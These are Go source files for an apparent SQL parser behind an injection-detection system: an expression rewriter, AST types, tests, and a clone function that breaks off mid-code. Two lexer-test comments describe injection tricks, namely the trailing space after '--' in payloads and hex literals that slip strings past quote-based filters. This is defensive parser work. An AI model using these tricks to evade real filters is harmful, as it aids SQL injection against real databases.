			return r.selectStmt(s.Select)
		}
		return nil
	case *UpdateStmt:
		for i := range s.Sets {
			if err := r.rewrite(&s.Sets[i].Value); err != nil {
				return err
			}
		}
		if err := r.rewriteOpt(&s.Where); err != nil {
			return err
		}
		return r.orderLimit(s.OrderBy, s.Limit)
	case *DeleteStmt:
		if err := r.rewriteOpt(&s.Where); err != nil {
			return err
		}
		return r.orderLimit(s.OrderBy, s.Limit)
	default:
		return nil
	}
}

func (r *rewriter) selectStmt(s *SelectStmt) error {
	for i := range s.Fields {
		if s.Fields[i].Expr != nil {
			if err := r.rewrite(&s.Fields[i].Expr); err != nil {
				return err
			}
		}
	}
	for i := range s.From {
		if s.From[i].Subquery != nil {
			if err := r.selectStmt(s.From[i].Subquery); err != nil {
				return err
			}
		}
		if s.From[i].On != nil {
			if err := r.rewrite(&s.From[i].On); err != nil {
				return err
			}
		}
	}
	if err := r.rewriteOpt(&s.Where); err != nil {
		return err
	}
	for i := range s.GroupBy {
		if err := r.rewrite(&s.GroupBy[i]); err != nil {
			return err
		}
	}
	if err := r.rewriteOpt(&s.Having); err != nil {
		return err
	}
	if err := r.orderLimit(s.OrderBy, s.Limit); err != nil {
		return err
	}
	if s.Union != nil {
		return r.selectStmt(s.Union.Next)
	}
	return nil
}

func (r *rewriter) orderLimit(orderBy []OrderItem, limit *Limit) error {
	for i := range orderBy {
		if err := r.rewrite(&orderBy[i].Expr); err != nil {
			return err
		}
	}
	if limit != nil {
		if err := r.rewrite(&limit.Count); err != nil {
			return err
		}
		if limit.Offset != nil {
			if err := r.rewrite(&limit.Offset); err != nil {
				return err
			}
		}
	}
	return nil
}

// rewriteOpt rewrites an optional expression slot (may hold nil).
func (r *rewriter) rewriteOpt(e *Expr) error {
	if *e == nil {
		return nil
	}
	return r.rewrite(e)
}

// rewrite descends into the expression's children, then applies fn to
// the node itself, storing the replacement through the pointer.
func (r *rewriter) rewrite(e *Expr) error {
	switch x := (*e).(type) {
	case *BinaryExpr:
		if err := r.rewrite(&x.Left); err != nil {
			return err
		}
		if err := r.rewrite(&x.Right); err != nil {
			return err
		}
	case *UnaryExpr:
		if err := r.rewrite(&x.Operand); err != nil {
			return err
		}
	case *FuncCall:
		for i := range x.Args {
			if err := r.rewrite(&x.Args[i]); err != nil {
				return err
			}
		}
	case *InExpr:
		if err := r.rewrite(&x.Left); err != nil {
			return err
		}
		for i := range x.List {
			if err := r.rewrite(&x.List[i]); err != nil {
				return err
			}
		}
		if x.Subquery != nil {
			if err := r.selectStmt(x.Subquery); err != nil {
				return err
			}
		}
	case *BetweenExpr:
		if err := r.rewrite(&x.Expr); err != nil {
			return err
		}
		if err := r.rewrite(&x.Low); err != nil {
			return err
		}
		if err := r.rewrite(&x.High); err != nil {
			return err
		}
	case *IsNullExpr:
		if err := r.rewrite(&x.Expr); err != nil {
			return err
		}
	case *SubqueryExpr:
		if err := r.selectStmt(x.Select); err != nil {
			return err
		}
	case *ExistsExpr:
		if err := r.selectStmt(x.Select); err != nil {
			return err
		}
	case *CaseExpr:
		if x.Operand != nil {
			if err := r.rewrite(&x.Operand); err != nil {
				return err
			}
		}
		for i := range x.Whens {
			if err := r.rewrite(&x.Whens[i].Cond); err != nil {
				return err
			}
			if err := r.rewrite(&x.Whens[i].Result); err != nil {
				return err
			}
		}
		if x.Else != nil {
			if err := r.rewrite(&x.Else); err != nil {
				return err
			}
		}
	}
	replaced, err := r.fn(*e)
	if err != nil {
		return err
	}
	*e = replaced
	return nil
}
