package sqlparser

// RewriteFunc transforms one expression node. Returning the input
// unchanged leaves the tree as is; returning a different Expr replaces
// the node. Children are rewritten before their parents (post-order).
type RewriteFunc func(Expr) (Expr, error)

// RewriteExprs applies fn to every expression in the statement, in
// source order, replacing nodes with the returned values. It is used to
// bind placeholder parameters in the AST (engine.ExecArgs) without ever
// touching query text.
func RewriteExprs(stmt Statement, fn RewriteFunc) error {
	r := rewriter{fn: fn}
	return r.statement(stmt)
}

// WalkExprs calls visit for every expression in the statement, in source
// order.
func WalkExprs(stmt Statement, visit func(Expr)) {
	// A rewrite that never replaces anything and never fails.
	_ = RewriteExprs(stmt, func(e Expr) (Expr, error) {
		visit(e)
		return e, nil
	})
}

type rewriter struct {
	fn RewriteFunc
}

func (r *rewriter) statement(stmt Statement) error {
	switch s := stmt.(type) {
	case *SelectStmt:
		return r.selectStmt(s)
	case *InsertStmt:
		for _, row := range s.Rows {
			for i := range row {
				if err := r.rewrite(&row[i]); err != nil {
					return err
				}
			}
		}
		if s.Select != nil {
			return r.selectStmt(s.Select)
		}
		return nil
	case *UpdateStmt:
		for i := range s.Sets {
			if err := r.rewrite(&s.Sets[i].Value); err != nil {
				return err
			}
		}
		if err := r.rewriteOpt(&s.Where); err != nil {
			return err
		}
		return r.orderLimit(s.OrderBy, s.Limit)
	case *DeleteStmt:
		if err := r.rewriteOpt(&s.Where); err != nil {
			return err
		}
		return r.orderLimit(s.OrderBy, s.Limit)
	default:
		return nil
	}
}

func (r *rewriter) selectStmt(s *SelectStmt) error {
	for i := range s.Fields {
		if s.Fields[i].Expr != nil {
			if err := r.rewrite(&s.Fields[i].Expr); err != nil {
				return err
			}
		}
	}
	for i := range s.From {
		if s.From[i].Subquery != nil {
			if err := r.selectStmt(s.From[i].Subquery); err != nil {
				return err
			}
		}
		if s.From[i].On != nil {
			if err := r.rewrite(&s.From[i].On); err != nil {
				return err
			}
		}
	}
	if err := r.rewriteOpt(&s.Where); err != nil {
		return err
	}
	for i := range s.GroupBy {
		if err := r.rewrite(&s.GroupBy[i]); err != nil {
			return err
		}
	}
	if err := r.rewriteOpt(&s.Having); err != nil {
		return err
	}
	if err := r.orderLimit(s.OrderBy, s.Limit); err != nil {
		return err
	}
	if s.Union != nil {
		return r.selectStmt(s.Union.Next)
	}
	return nil
}

func (r *rewriter) orderLimit(orderBy []OrderItem, limit *Limit) error {
	for i := range orderBy {
		if err := r.rewrite(&orderBy[i].Expr); err != nil {
			return err
		}
	}
	if limit != nil {
		if err := r.rewrite(&limit.Count); err != nil {
			return err
		}
		if limit.Offset != nil {
			if err := r.rewrite(&limit.Offset); err != nil {
				return err
			}
		}
	}
	return nil
}

// rewriteOpt rewrites an optional expression slot (may hold nil).
func (r *rewriter) rewriteOpt(e *Expr) error {
	if *e == nil {
		return nil
	}
	return r.rewrite(e)
}

// rewrite descends into the expression's children, then applies fn to
// the node itself, storing the replacement through the pointer.
func (r *rewriter) rewrite(e *Expr) error {
	switch x := (*e).(type) {
	case *BinaryExpr:
		if err := r.rewrite(&x.Left); err != nil {
			return err
		}
		if err := r.rewrite(&x.Right); err != nil {
			return err
		}
	case *UnaryExpr:
		if err := r.rewrite(&x.Operand); err != nil {
			return err
		}
	case *FuncCall:
		for i := range x.Args {
			if err := r.rewrite(&x.Args[i]); err != nil {
				return err
			}
		}
	case *InExpr:
		if err := r.rewrite(&x.Left); err != nil {
			return err
		}
		for i := range x.List {
			if err := r.rewrite(&x.List[i]); err != nil {
				return err
			}
		}
		if x.Subquery != nil {
			if err := r.selectStmt(x.Subquery); err != nil {
				return err
			}
		}
	case *BetweenExpr:
		if err := r.rewrite(&x.Expr); err != nil {
			return err
		}
		if err := r.rewrite(&x.Low); err != nil {
			return err
		}
		if err := r.rewrite(&x.High); err != nil {
			return err
		}
	case *IsNullExpr:
		if err := r.rewrite(&x.Expr); err != nil {
			return err
		}
	case *SubqueryExpr:
		if err := r.selectStmt(x.Select); err != nil {
			return err
		}
	case *ExistsExpr:
		if err := r.selectStmt(x.Select); err != nil {
			return err
		}
	case *CaseExpr:
		if x.Operand != nil {
			if err := r.rewrite(&x.Operand); err != nil {
				return err
			}
		}
		for i := range x.Whens {
			if err := r.rewrite(&x.Whens[i].Cond); err != nil {
				return err
			}
			if err := r.rewrite(&x.Whens[i].Result); err != nil {
				return err
			}
		}
		if x.Else != nil {
			if err := r.rewrite(&x.Else); err != nil {
				return err
			}
		}
	}
	replaced, err := r.fn(*e)
	if err != nil {
		return err
	}
	*e = replaced
	return nil
}
