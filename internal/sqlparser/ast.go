package sqlparser

// Statement is implemented by every parsed SQL statement.
type Statement interface {
	stmtNode()
	// StatementComments returns the comment bodies attached to the
	// statement, in source order. The first comment may carry SEPTIC's
	// optional external query identifier.
	StatementComments() []string
}

// commentHolder carries the comments attached to a statement.
type commentHolder struct {
	Comments []string
}

// StatementComments implements Statement.
func (c *commentHolder) StatementComments() []string { return c.Comments }

// SelectStmt is a SELECT query, possibly with UNION branches.
type SelectStmt struct {
	commentHolder
	Distinct bool
	Fields   []SelectField
	From     []TableRef
	Where    Expr
	GroupBy  []Expr
	Having   Expr
	OrderBy  []OrderItem
	Limit    *Limit
	// Union, if non-nil, is the next SELECT in a UNION chain.
	Union *UnionClause
}

func (*SelectStmt) stmtNode() {}

// UnionClause links a SELECT to the following branch of a UNION.
type UnionClause struct {
	All  bool
	Next *SelectStmt
}

// SelectField is one entry of a SELECT list.
type SelectField struct {
	// Star is true for a bare "*" (Expr is nil in that case).
	Star bool
	// TableStar holds the table name for "t.*" fields.
	TableStar string
	Expr      Expr
	Alias     string
}

// TableRef is a table in a FROM clause, optionally joined.
type TableRef struct {
	Name  string
	Alias string
	// Join describes how this table joins the previous one in the list.
	// Empty for the first table and for comma-separated cross joins.
	Join string // "", "INNER", "LEFT", "RIGHT", "CROSS"
	On   Expr
	// Subquery is set for derived tables: FROM (SELECT ...) alias.
	Subquery *SelectStmt
}

// OrderItem is one ORDER BY entry.
type OrderItem struct {
	Expr Expr
	Desc bool
}

// Limit is a LIMIT [OFFSET] clause.
type Limit struct {
	Count  Expr
	Offset Expr
}

// InsertStmt is an INSERT statement.
type InsertStmt struct {
	commentHolder
	Table   string
	Columns []string
	// Rows holds the VALUES tuples. Exactly one of Rows or Select is set.
	Rows   [][]Expr
	Select *SelectStmt
}

func (*InsertStmt) stmtNode() {}

// UpdateStmt is an UPDATE statement.
type UpdateStmt struct {
	commentHolder
	Table   string
	Sets    []Assignment
	Where   Expr
	OrderBy []OrderItem
	Limit   *Limit
}

func (*UpdateStmt) stmtNode() {}

// Assignment is one "column = expr" pair in an UPDATE SET clause.
type Assignment struct {
	Column string
	Value  Expr
}

// DeleteStmt is a DELETE statement.
type DeleteStmt struct {
	commentHolder
	Table   string
	Where   Expr
	OrderBy []OrderItem
	Limit   *Limit
}

func (*DeleteStmt) stmtNode() {}

// ColumnDef is one column definition in CREATE TABLE.
type ColumnDef struct {
	Name          string
	Type          string // canonical: INT, FLOAT, TEXT, BOOL, DATETIME
	PrimaryKey    bool
	AutoIncrement bool
	Unique        bool
	NotNull       bool
	Default       Expr
}

// CreateTableStmt is a CREATE TABLE statement.
type CreateTableStmt struct {
	commentHolder
	Table       string
	IfNotExists bool
	Columns     []ColumnDef
}

func (*CreateTableStmt) stmtNode() {}

// DropTableStmt is a DROP TABLE statement.
type DropTableStmt struct {
	commentHolder
	Table    string
	IfExists bool
}

func (*DropTableStmt) stmtNode() {}

// ShowTablesStmt is a SHOW TABLES statement.
type ShowTablesStmt struct {
	commentHolder
}

func (*ShowTablesStmt) stmtNode() {}

// DescribeStmt is a DESCRIBE <table> statement.
type DescribeStmt struct {
	commentHolder
	Table string
}

func (*DescribeStmt) stmtNode() {}

// ExplainStmt is an EXPLAIN <select> statement: the engine answers with
// its access plan instead of executing the query.
type ExplainStmt struct {
	commentHolder
	Select *SelectStmt
}

func (*ExplainStmt) stmtNode() {}

// Expr is implemented by every expression node.
type Expr interface {
	exprNode()
}

// BinaryExpr is a binary operation: comparison, arithmetic, or logical.
type BinaryExpr struct {
	Op    string // canonical: =, <>, <, <=, >, >=, +, -, *, /, %, AND, OR, XOR, LIKE
	Left  Expr
	Right Expr
}

func (*BinaryExpr) exprNode() {}

// UnaryExpr is a unary operation: NOT or numeric negation.
type UnaryExpr struct {
	Op      string // NOT, -, +
	Operand Expr
}

func (*UnaryExpr) exprNode() {}

// LiteralKind distinguishes literal types in the AST. These correspond to
// the DATA TYPE half of SEPTIC's query-structure nodes.
type LiteralKind int

// Literal kinds.
const (
	LiteralInvalid LiteralKind = iota
	LiteralInt
	LiteralFloat
	LiteralString
	LiteralBool
	LiteralNull
)

// Literal is a constant value in the query text.
type Literal struct {
	Kind LiteralKind
	// Int, Float, Str and Bool hold the decoded value for the matching
	// Kind; the others are zero.
	Int   int64
	Float float64
	Str   string
	Bool  bool
}

func (*Literal) exprNode() {}

// ColumnRef is a (possibly qualified) column reference.
type ColumnRef struct {
	Table string
	Name  string
}

func (*ColumnRef) exprNode() {}

// FuncCall is a function invocation, including aggregates.
type FuncCall struct {
	Name string // canonical upper-case
	// Star is true for COUNT(*).
	Star     bool
	Distinct bool
	Args     []Expr
}

func (*FuncCall) exprNode() {}

// InExpr is "expr [NOT] IN (list...)" or "expr [NOT] IN (subquery)".
type InExpr struct {
	Not      bool
	Left     Expr
	List     []Expr
	Subquery *SelectStmt
}

func (*InExpr) exprNode() {}

// BetweenExpr is "expr [NOT] BETWEEN low AND high".
type BetweenExpr struct {
	Not  bool
	Expr Expr
	Low  Expr
	High Expr
}

func (*BetweenExpr) exprNode() {}

// IsNullExpr is "expr IS [NOT] NULL".
type IsNullExpr struct {
	Not  bool
	Expr Expr
}

func (*IsNullExpr) exprNode() {}

// SubqueryExpr is a parenthesised scalar subquery.
type SubqueryExpr struct {
	Select *SelectStmt
}

func (*SubqueryExpr) exprNode() {}

// ExistsExpr is "[NOT] EXISTS (subquery)".
type ExistsExpr struct {
	Not    bool
	Select *SelectStmt
}

func (*ExistsExpr) exprNode() {}

// Placeholder is a '?' parameter marker (prepared-statement style).
type Placeholder struct{}

func (*Placeholder) exprNode() {}

// WhenClause is one WHEN...THEN arm of a CASE expression.
type WhenClause struct {
	Cond   Expr
	Result Expr
}

// CaseExpr is a CASE expression, in either form: the operand form
// "CASE x WHEN v THEN r ... END" (Operand non-nil, Cond compared for
// equality) or the searched form "CASE WHEN cond THEN r ... END".
type CaseExpr struct {
	Operand Expr // nil for the searched form
	Whens   []WhenClause
	Else    Expr // nil means NULL
}

func (*CaseExpr) exprNode() {}

// Interface compliance assertions.
var (
	_ Statement = (*SelectStmt)(nil)
	_ Statement = (*InsertStmt)(nil)
	_ Statement = (*UpdateStmt)(nil)
	_ Statement = (*DeleteStmt)(nil)
	_ Statement = (*CreateTableStmt)(nil)
	_ Statement = (*DropTableStmt)(nil)
	_ Statement = (*ShowTablesStmt)(nil)
	_ Statement = (*DescribeStmt)(nil)
	_ Statement = (*ExplainStmt)(nil)

	_ Expr = (*BinaryExpr)(nil)
	_ Expr = (*UnaryExpr)(nil)
	_ Expr = (*Literal)(nil)
	_ Expr = (*ColumnRef)(nil)
	_ Expr = (*FuncCall)(nil)
	_ Expr = (*InExpr)(nil)
	_ Expr = (*BetweenExpr)(nil)
	_ Expr = (*IsNullExpr)(nil)
	_ Expr = (*SubqueryExpr)(nil)
	_ Expr = (*ExistsExpr)(nil)
	_ Expr = (*Placeholder)(nil)
	_ Expr = (*CaseExpr)(nil)
)
