package sqlparser

import (
	"errors"
	"fmt"
	"testing"
)

func TestWalkExprsVisitsEverything(t *testing.T) {
	stmt := mustParse(t, `SELECT a + 1, COUNT(*) FROM t
		WHERE b IN (1, 2) AND c BETWEEN 3 AND 4 AND d IS NULL
		AND EXISTS (SELECT 1 FROM u WHERE u.x = t.y)
		GROUP BY e HAVING COUNT(*) > 5 ORDER BY f DESC LIMIT 7 OFFSET 8`)
	var kinds = map[string]int{}
	WalkExprs(stmt, func(e Expr) {
		switch e.(type) {
		case *Literal:
			kinds["literal"]++
		case *ColumnRef:
			kinds["column"]++
		case *BinaryExpr:
			kinds["binary"]++
		case *FuncCall:
			kinds["func"]++
		case *InExpr:
			kinds["in"]++
		case *BetweenExpr:
			kinds["between"]++
		case *IsNullExpr:
			kinds["isnull"]++
		case *ExistsExpr:
			kinds["exists"]++
		}
	})
	for _, want := range []string{"literal", "column", "binary", "func", "in", "between", "isnull", "exists"} {
		if kinds[want] == 0 {
			t.Errorf("WalkExprs missed %s nodes (%v)", want, kinds)
		}
	}
	// The LIMIT/OFFSET literals must be visited (7 and 8).
	if kinds["literal"] < 8 {
		t.Errorf("literal count = %d, want >= 8", kinds["literal"])
	}
}

func TestRewriteExprsReplacesInAllClauses(t *testing.T) {
	stmt := mustParse(t, `UPDATE t SET a = ?, b = ? WHERE c = ? ORDER BY d LIMIT ?`)
	n := 0
	err := RewriteExprs(stmt, func(e Expr) (Expr, error) {
		if _, ok := e.(*Placeholder); ok {
			n++
			return &Literal{Kind: LiteralInt, Int: int64(n)}, nil
		}
		return e, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if n != 4 {
		t.Fatalf("replaced %d placeholders, want 4", n)
	}
	text := Format(stmt)
	for _, want := range []string{"a = 1", "b = 2", "(c = 3)", "LIMIT 4"} {
		if !contains(text, want) {
			t.Errorf("formatted %q missing %q", text, want)
		}
	}
}

func TestRewriteExprsInInsertRows(t *testing.T) {
	stmt := mustParse(t, "INSERT INTO t (a, b) VALUES (?, ?), (?, 4)")
	n := 0
	err := RewriteExprs(stmt, func(e Expr) (Expr, error) {
		if _, ok := e.(*Placeholder); ok {
			n++
		}
		return e, nil
	})
	if err != nil || n != 3 {
		t.Fatalf("n = %d err = %v, want 3 placeholders", n, err)
	}
}

func TestRewriteExprsPropagatesError(t *testing.T) {
	stmt := mustParse(t, "SELECT a, b FROM t")
	boom := errors.New("boom")
	err := RewriteExprs(stmt, func(e Expr) (Expr, error) {
		if col, ok := e.(*ColumnRef); ok && col.Name == "b" {
			return nil, boom
		}
		return e, nil
	})
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v", err)
	}
}

func TestRewriteExprsDescendsSubqueries(t *testing.T) {
	stmt := mustParse(t, `SELECT (SELECT ? FROM u) FROM t WHERE id IN (SELECT v FROM w WHERE k = ?)`)
	n := 0
	err := RewriteExprs(stmt, func(e Expr) (Expr, error) {
		if _, ok := e.(*Placeholder); ok {
			n++
		}
		return e, nil
	})
	if err != nil || n != 2 {
		t.Fatalf("n = %d err = %v, want 2", n, err)
	}
}

func contains(haystack, needle string) bool {
	return len(haystack) >= len(needle) && indexOf(haystack, needle) >= 0
}

func indexOf(haystack, needle string) int {
	for i := 0; i+len(needle) <= len(haystack); i++ {
		if haystack[i:i+len(needle)] == needle {
			return i
		}
	}
	return -1
}

// TestWalkExprsMatchesRewriteTraversal: the read-only walker must visit
// exactly the nodes the rewriter visits, in the same order — the two
// traversals are twins and must not drift apart.
func TestWalkExprsMatchesRewriteTraversal(t *testing.T) {
	for _, q := range cloneCorpus {
		stmt := mustParse(t, q)
		var walked []string
		WalkExprs(stmt, func(e Expr) {
			walked = append(walked, fmt.Sprintf("%T", e))
		})
		var rewritten []string
		err := RewriteExprs(stmt, func(e Expr) (Expr, error) {
			rewritten = append(rewritten, fmt.Sprintf("%T", e))
			return e, nil
		})
		if err != nil {
			t.Fatalf("rewrite %q: %v", q, err)
		}
		if len(walked) != len(rewritten) {
			t.Fatalf("%q: walker visited %d nodes, rewriter %d\nwalked:    %v\nrewritten: %v",
				q, len(walked), len(rewritten), walked, rewritten)
		}
		for i := range walked {
			if walked[i] != rewritten[i] {
				t.Errorf("%q: visit %d: walker %s, rewriter %s", q, i, walked[i], rewritten[i])
			}
		}
	}
}
