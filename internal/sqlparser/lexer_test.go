package sqlparser

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"
)

func kinds(toks []Token) []TokenKind {
	out := make([]TokenKind, 0, len(toks))
	for _, t := range toks {
		out = append(out, t.Kind)
	}
	return out
}

func TestTokenizeBasicSelect(t *testing.T) {
	toks, err := Tokenize("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
	if err != nil {
		t.Fatalf("Tokenize: %v", err)
	}
	want := []struct {
		kind TokenKind
		text string
	}{
		{TokenKeyword, "SELECT"},
		{TokenOperator, "*"},
		{TokenKeyword, "FROM"},
		{TokenIdent, "tickets"},
		{TokenKeyword, "WHERE"},
		{TokenIdent, "reservID"},
		{TokenOperator, "="},
		{TokenString, "ID34FG"},
		{TokenKeyword, "AND"},
		{TokenIdent, "creditCard"},
		{TokenOperator, "="},
		{TokenInt, "1234"},
		{TokenEOF, ""},
	}
	if len(toks) != len(want) {
		t.Fatalf("got %d tokens %v, want %d", len(toks), kinds(toks), len(want))
	}
	for i, w := range want {
		if toks[i].Kind != w.kind || toks[i].Text != w.text {
			t.Errorf("token %d = %v, want %s %q", i, toks[i], w.kind, w.text)
		}
	}
}

func TestTokenizeKeywordsCaseInsensitive(t *testing.T) {
	toks, err := Tokenize("select FrOm where AnD")
	if err != nil {
		t.Fatalf("Tokenize: %v", err)
	}
	want := []string{"SELECT", "FROM", "WHERE", "AND"}
	for i, w := range want {
		if toks[i].Kind != TokenKeyword || toks[i].Text != w {
			t.Errorf("token %d = %v, want keyword %q", i, toks[i], w)
		}
	}
}

func TestTokenizeStringEscapes(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  string
	}{
		{"backslash quote", `'a\'b'`, "a'b"},
		{"doubled quote", `'a''b'`, "a'b"},
		{"backslash backslash", `'a\\b'`, `a\b`},
		{"newline escape", `'a\nb'`, "a\nb"},
		{"tab escape", `'a\tb'`, "a\tb"},
		{"nul escape", `'a\0b'`, "a\x00b"},
		{"ctrl-z escape", `'a\Zb'`, "a\x1ab"},
		{"unknown escape passes through", `'a\qb'`, "aqb"},
		{"double quoted", `"hello"`, "hello"},
		// \% and \_ keep their backslash: they are LIKE-pattern escapes
		// that the scanner must pass through for LIKE to resolve.
		{"percent keeps backslash", `'100\%'`, `100\%`},
		{"underscore keeps backslash", `'a\_b'`, `a\_b`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			toks, err := Tokenize(tt.input)
			if err != nil {
				t.Fatalf("Tokenize(%q): %v", tt.input, err)
			}
			if toks[0].Kind != TokenString || toks[0].Text != tt.want {
				t.Errorf("got %v, want string %q", toks[0], tt.want)
			}
		})
	}
}

func TestTokenizeUnterminatedString(t *testing.T) {
	_, err := Tokenize("SELECT 'oops")
	var serr *SyntaxError
	if !errors.As(err, &serr) {
		t.Fatalf("want *SyntaxError, got %v", err)
	}
	if !strings.Contains(serr.Msg, "unterminated string") {
		t.Errorf("unexpected message %q", serr.Msg)
	}
}

func TestTokenizeComments(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		wantBody string
	}{
		{"block", "/* id42 */ SELECT 1", "id42"},
		{"dash with space", "SELECT 1 -- trailing", "trailing"},
		{"hash", "SELECT 1 # trailing", "trailing"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			lx := NewLexer(tt.input)
			var comment string
			for {
				tok, err := lx.Next()
				if err != nil {
					t.Fatalf("Next: %v", err)
				}
				if tok.Kind == TokenComment {
					comment = tok.Text
				}
				if tok.Kind == TokenEOF {
					break
				}
			}
			if comment != tt.wantBody {
				t.Errorf("comment = %q, want %q", comment, tt.wantBody)
			}
		})
	}
}

// TestTokenizeDashDashNeedsSpace checks the MySQL-specific rule that "--"
// only starts a comment when followed by whitespace, which is why
// injection payloads carry a trailing space after "--".
func TestTokenizeDashDashNeedsSpace(t *testing.T) {
	toks, err := Tokenize("SELECT 5--3")
	if err != nil {
		t.Fatalf("Tokenize: %v", err)
	}
	// 5 - - 3: two operator tokens, not a comment.
	var ops int
	for _, tok := range toks {
		if tok.Kind == TokenOperator && tok.Text == "-" {
			ops++
		}
		if tok.Kind == TokenComment {
			t.Fatalf("'--' without trailing space must not start a comment")
		}
	}
	if ops != 2 {
		t.Errorf("got %d '-' operators, want 2", ops)
	}

	toks, err = Tokenize("SELECT 5-- 3")
	if err != nil {
		t.Fatalf("Tokenize: %v", err)
	}
	if toks[2].Kind != TokenComment {
		t.Errorf("'-- ' must start a comment, got %v", toks[2])
	}
}

func TestTokenizeNumbers(t *testing.T) {
	tests := []struct {
		input string
		kind  TokenKind
	}{
		{"42", TokenInt},
		{"0", TokenInt},
		{"3.14", TokenFloat},
		{".5", TokenFloat},
		{"1e9", TokenFloat},
		{"2E-3", TokenFloat},
		{"6.02e+23", TokenFloat},
	}
	for _, tt := range tests {
		toks, err := Tokenize(tt.input)
		if err != nil {
			t.Fatalf("Tokenize(%q): %v", tt.input, err)
		}
		if toks[0].Kind != tt.kind || toks[0].Text != tt.input {
			t.Errorf("Tokenize(%q) = %v, want %s", tt.input, toks[0], tt.kind)
		}
	}
}

// TestTokenizeHexLiterals: MySQL hex literals are binary strings — the
// quoteless way to smuggle string values past quote-anchored filters.
func TestTokenizeHexLiterals(t *testing.T) {
	tests := []struct{ in, want string }{
		{"0x41", "A"},
		{"0x6f70657261746f72", "operator"},
		{"0X41", "A"},
		{"0xA", "\n"}, // odd length pads left: 0x0A
		{"0x", ""},    // not a hex literal: number 0 then ident x
	}
	for _, tt := range tests {
		toks, err := Tokenize(tt.in)
		if err != nil {
			t.Fatalf("Tokenize(%q): %v", tt.in, err)
		}
		if tt.in == "0x" {
			if toks[0].Kind != TokenInt {
				t.Errorf("bare 0x should lex as number then ident, got %v", toks)
			}
			continue
		}
		if toks[0].Kind != TokenString || toks[0].Text != tt.want {
			t.Errorf("Tokenize(%q) = %v, want string %q", tt.in, toks[0], tt.want)
		}
	}
}

func TestHexLiteralInQuery(t *testing.T) {
	stmt := mustParseLex(t, "SELECT * FROM u WHERE name = 0x6f70657261746f72")
	_ = stmt
}

func mustParseLex(t *testing.T, q string) Statement {
	t.Helper()
	stmt, err := Parse(q)
	if err != nil {
		t.Fatalf("Parse(%q): %v", q, err)
	}
	return stmt
}

func TestTokenizeOperators(t *testing.T) {
	toks, err := Tokenize("= <> != <= >= < > + - * / %")
	if err != nil {
		t.Fatalf("Tokenize: %v", err)
	}
	want := []string{"=", "<>", "!=", "<=", ">=", "<", ">", "+", "-", "*", "/", "%"}
	for i, w := range want {
		if toks[i].Kind != TokenOperator || toks[i].Text != w {
			t.Errorf("token %d = %v, want operator %q", i, toks[i], w)
		}
	}
}

func TestTokenizeBacktickIdent(t *testing.T) {
	toks, err := Tokenize("SELECT `select` FROM `weird table`")
	if err != nil {
		t.Fatalf("Tokenize: %v", err)
	}
	if toks[1].Kind != TokenIdent || toks[1].Text != "select" {
		t.Errorf("backticked keyword should be identifier, got %v", toks[1])
	}
	if toks[3].Kind != TokenIdent || toks[3].Text != "weird table" {
		t.Errorf("backticked name = %v, want %q", toks[3], "weird table")
	}
}

func TestTokenizePlaceholder(t *testing.T) {
	toks, err := Tokenize("SELECT ? , ?")
	if err != nil {
		t.Fatalf("Tokenize: %v", err)
	}
	if toks[1].Kind != TokenPlaceholder || toks[3].Kind != TokenPlaceholder {
		t.Errorf("want placeholders, got %v", kinds(toks))
	}
}

func TestLexerCommentsAccumulate(t *testing.T) {
	lx := NewLexer("/* a */ SELECT 1 /* b */")
	for {
		tok, err := lx.Next()
		if err != nil {
			t.Fatalf("Next: %v", err)
		}
		if tok.Kind == TokenEOF {
			break
		}
	}
	got := lx.Comments()
	if len(got) != 2 || got[0] != "a" || got[1] != "b" {
		t.Errorf("Comments() = %v, want [a b]", got)
	}
}

// TestTokenizeNeverPanics is a property test: the lexer must return a
// token stream or an error for arbitrary byte soup, never panic or loop.
func TestTokenizeNeverPanics(t *testing.T) {
	f := func(s string) bool {
		toks, err := Tokenize(s)
		if err != nil {
			return true
		}
		return len(toks) > 0 && toks[len(toks)-1].Kind == TokenEOF
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// TestStringRoundTrip is a property test: escaping then lexing any string
// value must return the original value.
func TestStringRoundTrip(t *testing.T) {
	f := func(s string) bool {
		quoted := "'" + EscapeString(s) + "'"
		toks, err := Tokenize(quoted)
		if err != nil {
			return false
		}
		return toks[0].Kind == TokenString && toks[0].Text == s
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
