package sqlparser

// Clone returns a deep copy of a parsed statement: every statement node,
// expression node and container slice is duplicated, so rewrites of the
// copy (engine.ExecArgs binding '?' placeholders in place) can never be
// observed through the original. Strings and comment slices are shared —
// both are immutable by convention throughout the package.
//
// Clone exists for the engine's parse cache: a cached AST is handed to
// every session that repeats the same query text, which is sound only
// because nothing mutates it; the one mutating path (argument binding)
// clones first.
func Clone(stmt Statement) Statement {
	switch s := stmt.(type) {
	case *SelectStmt:
		return cloneSelect(s)
	case *InsertStmt:
		c := *s
		c.Columns = append([]string(nil), s.Columns...)
		if s.Rows != nil {
			c.Rows = make([][]Expr, len(s.Rows))
			for i, row := range s.Rows {
				c.Rows[i] = cloneExprs(row)
			}
		}
		c.Select = cloneSelect(s.Select)
		return &c
	case *UpdateStmt:
		c := *s
		if s.Sets != nil {
			c.Sets = make([]Assignment, len(s.Sets))
			for i, a := range s.Sets {
				c.Sets[i] = Assignment{Column: a.Column, Value: cloneExpr(a.Value)}
			}
		}
		c.Where = cloneExpr(s.Where)
		c.OrderBy = cloneOrderItems(s.OrderBy)
		c.Limit = cloneLimit(s.Limit)
		return &c
	case *DeleteStmt:
		c := *s
		c.Where = cloneExpr(s.Where)
		c.OrderBy = cloneOrderItems(s.OrderBy)
		c.Limit = cloneLimit(s.Limit)
		return &c
	case *CreateTableStmt:
		c := *s
		if s.Columns != nil {
			c.Columns = make([]ColumnDef, len(s.Columns))
			for i, col := range s.Columns {
				c.Columns[i] = col
				c.Columns[i].Default = cloneExpr(col.Default)
			}
		}
		return &c
	case *DropTableStmt:
		c := *s
		return &c
	case *ShowTablesStmt:
		c := *s
		return &c
	case *DescribeStmt:
		c := *s
		return &c
	case *ExplainStmt:
		c := *s
		c.Select = cloneSelect(s.Select)
		return &c
	default:
